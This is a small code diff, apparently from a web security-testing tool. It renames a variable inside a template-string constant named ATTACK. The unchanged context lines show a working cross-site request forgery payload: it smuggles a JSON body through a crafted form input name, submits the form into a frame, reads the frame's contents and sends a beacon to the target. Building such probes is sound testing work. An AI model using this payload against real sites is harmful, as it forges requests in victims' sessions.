@@ -145,9 +145,9 @@ const ATTACK = `async ({ url, method, headers, body }) => {
   const input = Object.assign(document.createElement('input'), { name: (body ?? '{').replace(/}$/, ', "x": "'), value: '"}' });
   form.append(input);
   document.body.append(form);
-  const loaded = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
+  const frameEnded = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
   form.submit();
-  await loaded;
+  await frameEnded;
   try { note('frame')(frame.contentDocument.body.innerText); } catch {}
   navigator.sendBeacon(url, body ?? '');
   return found;
